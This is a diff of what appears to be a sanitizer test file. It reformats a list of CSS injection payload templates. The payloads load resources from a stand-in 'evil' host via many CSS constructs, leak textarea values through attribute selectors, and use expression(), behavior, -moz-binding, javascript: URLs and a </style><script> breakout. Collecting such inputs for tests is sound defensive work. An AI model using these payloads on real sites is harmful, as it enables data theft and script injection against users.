@@ -164,13 +164,22 @@ _STYLES: Final = (
     "@supports (color: red) {{ @media screen {{ .bar {{ background: url({evil}/y.png) }} }} }}",
     "@layer x {{ .bar {{ background: url({evil}/z.png) }} }}",
     "@container (width > 0) {{ .bar {{ background: url({evil}/A.png) }} }}",
-    ".bar {{ & h1 {{ background: url({evil}/B.png) }} @media screen {{ background: url({evil}/C.png) }} }}",
-    "@keyframes k {{ to {{ background: url({evil}/D.png) }} }} .bar {{ animation: k 1ms forwards }}",
+    (
+        ".bar {{ & h1 {{ background: url({evil}/B.png) }} "
+        "@media screen {{ background: url({evil}/C.png) }} }}"
+    ),
+    (
+        "@keyframes k {{ to {{ background: url({evil}/D.png) }} }} "
+        ".bar {{ animation: k 1ms forwards }}"
+    ),
     "@property --y {{ syntax: '<image>'; inherits: false; initial-value: url({evil}/E.png) }}",
     "@counter-style z {{ symbols: url({evil}/F.png) }}",
     "@page {{ background: url({evil}/G.png) }}",
     "textarea[value^='a'] {{ background: url({evil}/H.png) }}",
-    ".bar {{ width: expression({run}); behavior: url({evil}/I.htc); -moz-binding: url({evil}/J.xml#x) }}",
+    (
+        ".bar {{ width: expression({run}); behavior: url({evil}/I.htc); "
+        "-moz-binding: url({evil}/J.xml#x) }}"
+    ),
     ".bar {{ background: url(javascript:{run}) }}",
     ".bar {{ background: url(//evil.example/K.png) }}",
     "</style><script>{run}</script><style>",
